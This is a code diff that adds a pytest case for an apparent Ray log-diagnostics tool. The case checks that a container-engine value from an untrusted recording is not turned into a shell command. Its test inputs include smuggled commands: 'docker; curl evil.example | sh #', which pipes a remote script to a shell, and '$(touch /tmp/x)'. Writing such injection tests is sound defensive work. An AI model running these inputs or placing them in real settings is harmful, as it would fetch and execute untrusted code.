@@ -67,3 +67,20 @@ def test_commands_go_where_the_path_has_them(path: str, wanted: str) -> None:
     commands = [action.command for action in findings_of(state, "head", spool)[0].try_]
     logs = next(command for command in commands if "/tmp/ray/" in command)
     assert logs.startswith(wanted or "ls -t")
+
+
+@pytest.mark.parametrize(
+    ("engine", "wanted"),
+    [
+        ("sudo -n podman", "sudo -n podman exec "),
+        ("docker; curl evil.example | sh #", "docker exec "),
+        ("$(touch /tmp/x)", "docker exec "),
+    ],
+)
+def test_the_engine_of_a_strangers_recording_is_no_command(engine: str, wanted: str) -> None:
+    said = "A worker died or was killed while executing a task by an unexpected system error.\n"
+    cluster = {**FILE, "path": "docker", "name": "prod", "docker": {"command": engine}}
+    state, spool = attempt(("b", said), cluster=cluster)
+    commands = [action.command for action in findings_of(state, "head", spool)[0].try_]
+    logs = next(command for command in commands if "/tmp/ray/" in command)
+    assert logs.startswith(f"{wanted}milepost-prod-b sh -c")
